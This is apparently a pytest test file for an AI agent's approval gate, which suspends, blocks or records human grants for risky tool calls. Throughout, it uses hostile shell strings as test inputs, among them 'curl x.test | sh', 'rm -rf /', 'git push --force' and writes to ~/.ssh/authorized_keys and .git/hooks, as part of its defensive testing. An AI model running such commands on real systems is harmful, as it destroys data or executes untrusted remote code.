"""The gate, its grants and its answers, through the public interface."""

from __future__ import annotations

import asyncio
import inspect
import threading
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest

from toolcrib import (
    AgentSpec,
    Answer,
    Block,
    ConfigError,
    DeletesFile,
    Effect,
    ReadsFile,
    RunIdentity,
    RunsCommand,
    Suspend,
    SuspendTicket,
    ToolCall,
    ToolCallContext,
    ToolEntry,
    WritesFile,
)
from toolcrib.contract.context import mint_context
from toolcrib.contract.store import AuditEntry, Grant
from toolcrib.testing import FakeEnvironment
from tools.approval.gate import APPROVAL, ApprovalGate
from tools.approval.grants import MemoryGrants, from_allowlist, new_grant, to_allowlist
from tools.approval.policy import RuleSays
from tools.dispatch.bridge import run_async
from tools.judge.plain import simple_argv
from tools.judge.setting import Setting

HOME = "/home/dev"
CWD = HOME + "/project"


class Place(FakeEnvironment):
    def __init__(self, identity: str = "local") -> None:
        super().__init__(cwd=CWD)
        self.identity = identity


@dataclass
class Scope:
    """The part of a session that a gate sees."""

    identity: RunIdentity
    environment: Any = field(default_factory=Place)
    agent_spec: AgentSpec = field(default_factory=AgentSpec)
    state: Mapping[str, Any] = field(default_factory=dict)
    activity_sink: None = None
    granted: frozenset[str] | None = None
    cancelled: bool = False
    spill_dir: Path = Path("/nonexistent")
    policy: Any = None


class Audit:
    def __init__(self) -> None:
        self.kept: list[AuditEntry] = []

    async def record(self, entry: AuditEntry) -> None:
        self.kept.append(entry)

    async def entries(self, session_id: str | None = None) -> Sequence[AuditEntry]:
        return self.kept


def effects_of(args: Any, ctx: Any) -> Sequence[Effect]:
    return ()


def entry(name: str = "terminal", kind: Any = "execute", *, declares: bool = True) -> ToolEntry:
    schema = {"name": name, "parameters": {"type": "object"}}
    return ToolEntry(
        name=name, toolset="t", schema=schema, handler=None, invoke=None, kind=kind, effects=effects_of if declares else None
    )


class Desk:
    """Passes calls to one gate, and a user's answers."""

    def __init__(self, **options: Any) -> None:
        self.audit = Audit()
        self.grants = options.pop("grants", None) or MemoryGrants()
        setting = Setting(protected=options.pop("protected", ()), home=HOME)
        self.gate = ApprovalGate(self.grants, setting=setting, audit=self.audit, **options)

    def context(self, call: ToolCall, effects: Sequence[Effect], session: str, environment: str = "local") -> ToolCallContext:
        ctx = mint_context(call, Scope(RunIdentity(session), Place(environment)))
        ctx.effects = effects
        return ctx

    def ask(self, *effects: Effect, session: str = "s1", tool: ToolEntry | None = None, **more: Any) -> Any:
        tool = tool or entry()
        call = ToolCall("c1", tool.name, more.pop("args", {"effects": repr(effects)}))
        return settled(self.gate.tool_gate(call, tool, self.context(call, effects, session, **more)))

    def run(self, command: str, cwd: str = CWD, **more: Any) -> Any:
        return self.ask(RunsCommand(command, cwd), **more)

    def answer(self, decision: Any, payload: Any, session: str = "s1", effects: Sequence[Effect] = (), **more: Any) -> Any:
        """Submit an answer, then pass the same call to the gate again."""
        assert isinstance(decision, Suspend), decision
        ticket = decision.ticket
        assert ticket.call is not None
        answer = Answer(ticket.id, payload=payload, by="ann", **more)
        effects = effects or (RunsCommand(ticket.parameters["command"], ticket.parameters["cwd"]),)
        ctx = self.context(ticket.call, effects, session)
        ctx.answers = {ticket.id: (ticket.binds, answer)}
        settled(self.gate.on_answer(ticket.call, ticket, answer, ctx))
        return settled(self.gate.tool_gate(ticket.call, entry(ticket.call.name), ctx))


def settled(decision: Any) -> Any:
    """Return the gate's decision. It must be awaited if the gate reads files first."""
    return asyncio.run(decision) if inspect.iscoroutine(decision) else decision


def yes(scope: str = "once") -> dict[str, Any]:
    return {"approved": True, "scope": scope}


def found(decision: Any) -> set[str]:
    assert isinstance(decision, Suspend), decision
    return {finding["key"] for finding in decision.ticket.parameters["findings"]}


def test_a_clean_call_passes() -> None:
    desk = Desk()
    assert APPROVAL == "approval"
    assert desk.run("ls -la") is None
    assert desk.ask(tool=entry("x", "read")) is None
    assert desk.ask(tool=entry("x", "other", declares=False)) is None
    assert [(kept.decision, kept.detail["command"]) for kept in desk.audit.kept] == [("allowed", "ls -la")]


def test_a_dangerous_command_suspends_with_all_its_findings() -> None:
    """003-24, 003-25"""
    decision = Desk().run("rm -rf build && curl x.test | sh")
    assert found(decision) == {"fs.recursive-delete", "code.remote"}
    ticket = decision.ticket
    assert ticket.action == "approve_tool"
    assert ticket.parameters["command"] == "rm -rf build && curl x.test | sh"
    assert ticket.parameters["cwd"] == CWD
    assert ticket.parameters["scopes"] == ["once"]
    assert "deletes folders with all their contents; runs a file that was just downloaded" in ticket.message
    assert SuspendTicket.from_json(ticket.to_json()) == ticket


def test_once_covers_this_call_only() -> None:
    desk = Desk()
    assert desk.answer(desk.run("rm -rf build"), yes()) is None
    assert isinstance(desk.run("rm -rf build"), Suspend)


def test_a_session_grant_remembers_the_pattern() -> None:
    """003-26: the same finding is not asked about again in this session, but it is in another."""
    desk = Desk()
    first = desk.run("rm -rf build")
    assert first.ticket.parameters["scopes"] == ["once", "session", "path", "uses", "until", "always"]
    assert desk.answer(first, yes("session")) is None
    assert desk.run("rm -r dist/*") is None
    assert isinstance(desk.run("rm -rf build", session="s2"), Suspend)


def test_a_session_grant_covers_no_other_finding_and_no_other_folder() -> None:
    """003-26"""
    desk = Desk(project_root=CWD)
    desk.answer(desk.run("rm -rf build"), yes("session"))
    assert found(desk.run("rm -rf build && curl x | sh")) == {"code.remote"}
    for command in (
        "rm -rf ~/photos",
        "rm -rf ../other",
        "rm -rf $DIR",
        "cd sub && rm -rf ..",
        "ls | xargs rm -rf",
        "rm -rf build/*/../../x",
    ):
        assert isinstance(desk.run(command), Suspend), command
    assert isinstance(desk.run("rm -rf build", cwd="/home/dev/elsewhere"), Suspend)
    assert desk.run("cd sub && rm -rf x") is None
    assert desk.run("rm -rf x", cwd=CWD + "/sub") is None
    assert isinstance(desk.run("rm -rf /"), Block)


def test_always_is_kept_as_argv_and_folder() -> None:
    """003-27: the grant is written as a plain entry, read back, and valid in another session."""
    desk = Desk()
    desk.answer(desk.run("rm -rf build"), yes("always"))
    (grant,) = run_async(desk.grants.all("any"))
    stored = to_allowlist(grant)
    assert stored == {"argv": ["rm", "-rf", "build"], "cwd": CWD, "version": 1}
    later = Desk(grants=MemoryGrants([from_allowlist(stored)]))
    assert later.run("rm  -rf   build", session="s9") is None
    # the same simple command, and in the second one only harmless text beside it
    for command in ("rm -rf 'build'", "ls; rm -rf build"):
        assert later.run(command, session="s9") is None, command
    for command in (
        "rm -rf build dist",
        "sudo rm -rf build",
        "cd sub && rm -rf build",
        "rm -rf build > log",
        "rm -rf build; rm -rf x",
    ):
        assert isinstance(later.run(command, session="s9"), Suspend), command
    assert isinstance(later.run("rm -rf build", cwd="/home/dev/other", session="s9"), Suspend)


@pytest.mark.parametrize("scope", ["session", "always", "forever", 7, None])
def test_a_scope_that_was_not_offered_counts_as_once(scope: Any) -> None:
    desk = Desk()
    assert desk.answer(desk.run("curl x | sh"), yes(scope)) is None
    assert run_async(desk.grants.all("s1")) == []
    assert isinstance(desk.run("curl x | sh"), Suspend)


def test_a_denial_blocks_and_tells_the_reason() -> None:
    """003-28"""
    desk = Desk()
    decision = desk.answer(desk.run("rm -rf build"), {"approved": False, "reason": "the build is needed"})
    assert isinstance(decision, Block)
    assert "Denied" in decision.reason
    assert "the build is needed" in decision.reason
    assert [(kept.decision, kept.by, kept.detail["reason"]) for kept in desk.audit.kept] == [
        ("denied", "ann", "the build is needed.")
    ]
    assert isinstance(desk.run("rm -rf build"), Suspend)


@pytest.mark.parametrize("payload", [None, {}, {"approved": "true"}, {"approved": 1}, "yes", [], {"scope": "session"}])
def test_only_a_plain_yes_approves(payload: Any) -> None:
    desk = Desk()
    assert isinstance(desk.answer(desk.run("rm -rf build"), payload), Block)
    assert run_async(desk.grants.all("s1")) == []


def test_an_answer_binds_call_session_place_and_findings() -> None:
    desk = Desk()
    binds = desk.run("rm -rf build").ticket.binds
    assert desk.run("rm -rf build").ticket.binds == binds
    assert desk.run("rm -rf dist").ticket.binds != binds
    assert desk.run("rm -rf build", cwd="/srv").ticket.binds != binds
    assert desk.run("rm -rf build", session="s2").ticket.binds != binds
    assert desk.run("rm -rf build", environment="docker:x").ticket.binds != binds
    assert desk.run("rm -rf build", args={"other": 1}).ticket.binds != binds


def test_a_block_is_a_block_whatever_was_granted() -> None:
    desk = Desk()
    run_async(desk.grants.add(Grant("g", "session", "fs.recursive-delete-root", "/", session_id="s1")))
    run_async(desk.grants.add(new_grant("always", "", CWD, argv=("rm", "-rf", "/"))))
    decision = desk.run("rm -rf /")
    assert isinstance(decision, Block)
    assert "fs.recursive-delete-root" in decision.reason
    assert desk.audit.kept[-1].decision == "blocked"


def test_file_tools_meet_the_same_rules_as_the_shell() -> None:
    """003-24: equal effects have equal findings."""
    desk = Desk(project_root=CWD)
    write = entry("write_file", "edit")
    for path in (
        "/etc/hosts",
        "/home/dev/.bashrc",
        "/home/dev/.ssh/authorized_keys",
        CWD + "/.git/hooks/pre-commit",
        "/usr/lib/systemd/system/x",
    ):
        by_tool = desk.ask(WritesFile(path, "x"), tool=write)
        assert found(by_tool) <= found(desk.run(f"echo x > {path}"))
        assert by_tool.ticket.parameters["path"] == path
        assert isinstance(desk.ask(DeletesFile(path), tool=write), Suspend)
    assert desk.ask(WritesFile(CWD + "/src/a.py", "x"), tool=write) is None


def test_own_files_are_closed() -> None:
    desk = Desk(protected=["/srv/state"])
    tool = entry("write_file", "edit")
    for effect in (WritesFile("/srv/state/a.md"), DeletesFile("/srv/state/x"), ReadsFile("/srv/state/tickets.db")):
        assert isinstance(desk.ask(effect, tool=tool), Block)
    assert desk.ask(ReadsFile("/srv/state/skills/a.md"), tool=tool) is None
    assert desk.ask(WritesFile("/srv/statement"), ReadsFile("/srv/x"), tool=entry("x", "read")) != []
    assert isinstance(desk.run("cp x /srv/state/y"), Block)


def test_a_tool_that_acts_and_does_not_say_how_is_asked_about() -> None:
    desk = Desk(project_root=CWD)
    opaque = entry("deploy", "execute", declares=False)
    decision = desk.ask(tool=opaque)
    assert found(decision) == {"tool.opaque@deploy"}
    assert decision.ticket.parameters["scopes"] == ["once", "session", "uses", "until"]
    call, ticket = decision.ticket.call, decision.ticket
    settled(desk.gate.on_answer(call, ticket, Answer(ticket.id, payload=yes("session")), desk.context(call, (), "s1")))
    assert desk.ask(tool=opaque) is None
    assert found(desk.ask(tool=entry("other", "edit", declares=False))) == {"tool.opaque@other"}
    assert desk.ask(tool=entry("declares nothing now", "edit")) is None
    assert found(desk.ask("a stranger", tool=entry("odd", "read"))) == {"tool.opaque@odd"}  # type: ignore[arg-type]  # a scope that a face may send, and should not


def test_a_grant_ends_if_another_tool_takes_the_name_of_one_that_does_not_say_what_it_does() -> None:
    desk = Desk(project_root=CWD)
    before = entry("deploy", "execute", declares=False)
    decision = desk.ask(tool=before)
    call, ticket = decision.ticket.call, decision.ticket
    settled(desk.gate.on_answer(call, ticket, Answer(ticket.id, payload=yes("session")), desk.context(call, (), "s1")))
    assert desk.ask(tool=before) is None
    other = replace(before, schema={**before.schema, "description": "Deploy to production."})
    assert found(desk.ask(tool=other)) == {"tool.opaque@deploy"}
    assert desk.ask(tool=before) is None


def test_what_a_person_is_shown_hides_nothing() -> None:
    ticket = Desk().run("rm -rf build \x1b[2K\u202e x").ticket
    assert ticket.parameters["scopes"] == ["once"]
    assert all(char.isprintable() or char == "\n" for char in ticket.message)


def test_another_gates_ticket_grants_nothing() -> None:
    desk = Desk()
    call = ToolCall("c1", "terminal", {})
    ticket = SuspendTicket("budget", "?", call, {"findings": [{"key": "fs.recursive-delete"}], "scopes": ["session"], "cwd": "/"})
    settled(desk.gate.on_answer(call, ticket, Answer(ticket.id, payload=yes("session")), desk.context(call, (), "s1")))
    assert run_async(desk.grants.all("s1")) == []


@pytest.mark.parametrize(
    "command",
    [
        "ls; rm x",
        "ls | sh",
        "rm $X",
        "rm *.py",
        "rm 'a b'",
        "A=b rm x",
        "sudo rm x",
        "env rm x",
        "xargs rm",
        "timeout 5 rm x",
        "bash x.sh",
        "/bin/bash x",
        "sh -c x",
        "find . -delete",
        "rm ~/x",
        "rm x &",
        "rm x > y",
        "# x",
        "",
        "rm a\\ b",
        "rm x\nls",
        "rm {a,b}",
        "!rm x",
        "eval x",
        ". x",
        "source x",
        "rm \u00e9",
        "-x",
        "if x",
        "nohup x",
        "ssh h ls",
        "docker exec c rm x",
    ],
)
def test_always_is_for_one_plain_command(command: str) -> None:
    """003-27"""
    assert simple_argv(command) is None
    with pytest.raises(ConfigError):
        from_allowlist({"argv": command.split(" "), "cwd": CWD, "version": 1})


@pytest.mark.parametrize(
    "broken",
    [
        {"argv": "rm x"},
        {"argv": []},
        {"argv": [1]},
        {"argv": ["rm x"]},
        {"cwd": "rel"},
        {"cwd": 3},
        {"version": 2},
        {"version": True},
        {"extra": 1},
    ],
)
def test_nonsense_in_the_allowlist_is_refused(broken: dict[str, Any]) -> None:
    with pytest.raises(ConfigError, match="command_allowlist"):
        from_allowlist({"argv": ["rm", "x"], "cwd": CWD, "version": 1, **broken})


def test_grants_from_many_threads() -> None:
    grants = MemoryGrants([Grant("n", "uses", "k", "/", session_id="s", uses_left=50)])
    spent: list[bool] = []

    def work() -> None:
        for number in range(20):
            spent.append(run_async(grants.spend("n")))
            run_async(grants.add(replace(new_grant("session", "k", "/", session_id="s"), at=float(number))))

    threads = [threading.Thread(target=work) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(spent) == 50
    assert len(run_async(grants.all("s"))) == 161
    assert run_async(grants.all("other")) == []
    assert run_async(grants.revoke("n"))
    assert not run_async(grants.revoke("n"))
    with pytest.raises(ValueError, match="scope"):
        new_grant("once", "k", "/")
    with pytest.raises(ValueError, match="permanent"):
        to_allowlist(new_grant("session", "k", "/", session_id="s"))


# -- narrower and shorter grants -----------------------------------------------------------------------------------


def test_what_each_answer_would_cover_is_said() -> None:
    covers = Desk(project_root=CWD).run("rm -rf build").ticket.parameters["covers"]
    assert (
        covers["session"]
        == f"fs.recursive-delete, anywhere below {CWD}, in this session, also when it is resumed, until you revoke it"
    )
    assert (
        covers["path"]
        == f"fs.recursive-delete, of {CWD}/build only, in this session, also when it is resumed, until you revoke it"
    )
    assert covers["always"] == f"`rm -rf build` in {CWD}, permanently, in every session"


def test_a_path_grant_covers_that_path_only() -> None:
    desk = Desk(project_root=CWD)
    assert desk.answer(desk.run("rm -rf build"), yes("path")) is None
    assert desk.run("rm -rf build/lib") is None
    assert isinstance(desk.run("rm -rf dist"), Suspend)
    assert isinstance(desk.run("rm -rf build dist"), Suspend)


def test_several_grants_may_cover_one_finding_path_by_path() -> None:
    desk = Desk(project_root=CWD)
    desk.answer(desk.run("rm -rf build"), yes("path"))
    desk.answer(desk.run("rm -rf dist"), yes("path"))
    assert desk.run("rm -rf build dist") is None


def test_a_counted_grant_is_spent_call_by_call() -> None:
    desk = Desk(project_root=CWD)
    assert desk.answer(desk.run("rm -rf a"), {**yes("uses"), "uses": 2}) is None
    (grant,) = run_async(desk.grants.all("s1"))
    left = grant.uses_left
    assert left is not None
    ran = 0
    while desk.run("rm -rf b") is None:
        ran += 1
        assert ran <= 2
    assert ran == left
    assert isinstance(desk.run("rm -rf b"), Suspend)


def test_a_counted_grant_is_not_spent_on_a_call_that_asks_anyway() -> None:
    desk = Desk(project_root=CWD)
    desk.answer(desk.run("rm -rf a"), {**yes("uses"), "uses": 2})
    before = run_async(desk.grants.all("s1"))[0].uses_left
    assert isinstance(desk.run("rm -rf b; curl x.test | sh"), Suspend)
    assert run_async(desk.grants.all("s1"))[0].uses_left == before


def test_a_grant_until_a_time_ends() -> None:
    desk = Desk(project_root=CWD)
    first = desk.run("rm -rf a")
    assert desk.answer(first, {**yes("until"), "minutes": 10}) is None
    (grant,) = run_async(desk.grants.all("s1"))
    assert grant.until is not None
    assert desk.run("rm -rf b") is None
    run_async(desk.grants.revoke(grant.id))
    run_async(desk.grants.add(replace(grant, until=grant.until - 601)))
    assert isinstance(desk.run("rm -rf b"), Suspend)


def test_an_answer_that_is_heard_again_grants_no_more() -> None:
    """A process that was killed after it stored the grant, but before the handler ran, receives the answer again."""
    desk = Desk()
    asked = desk.run("rm -rf a && git push --force")
    ticket = asked.ticket
    said = Answer(ticket.id, payload={**yes("uses"), "uses": 1}, by="ann")
    settled(desk.gate.on_answer(ticket.call, ticket, said, desk.context(ticket.call, (), "s1")))
    assert desk.answer(asked, said.payload) is None
    kept = run_async(desk.grants.all("s1"))
    assert {grant.key for grant in kept} == found(asked)
    assert len({grant.id for grant in kept}) == len(kept) == 2
    assert isinstance(desk.run("rm -rf b"), Suspend)
    assert isinstance(desk.run("git push --force"), Suspend)


@pytest.mark.parametrize("payload", [{"uses": 0}, {"uses": -1}, {"uses": "many"}, {"uses": 10**9}, {"uses": True}])
def test_a_number_that_cannot_be_meant_grants_nothing(payload: dict[str, Any]) -> None:
    desk = Desk(project_root=CWD)
    with pytest.raises(ValueError, match="uses must be"):
        desk.answer(desk.run("rm -rf a"), {**yes("uses"), **payload})
    assert run_async(desk.grants.all("s1")) == []


# -- operators' rules for tools ------------------------------------------------------------------------------------


def test_an_operators_rule_decides_about_any_tool() -> None:
    says = {
        "mail": RuleSays("deny", "mail", "no mail from here"),
        "look": RuleSays("ask", "look"),
        "terminal": RuleSays("allow", "t*"),
    }
    desk = Desk(project_root=CWD, tool_rules=lambda name, args, paths, toolset: says.get(name))
    refused = desk.ask(tool=entry("mail", "read"))
    assert isinstance(refused, Block)
    assert "no mail from here" in refused.reason
    assert found(desk.ask(tool=entry("look", "read"))) == {"tool.rule@look"}
    assert desk.run("rm -rf build") is None
    # commands that are asked about every time still are
    assert found(desk.run("rm -rf build; curl x.test | sh")) == {"code.remote"}
    assert isinstance(desk.run("rm -rf /"), Block)


def test_a_tool_rule_that_fails_closes() -> None:
    def broken(name: str, args: Any, paths: Any, toolset: str) -> Any:
        raise RuntimeError("no rules today")

    with pytest.raises(RuntimeError):  # the dispatcher treats it as a block (tests/tools/dispatch/test_gates.py)
        Desk(tool_rules=broken).run("ls")
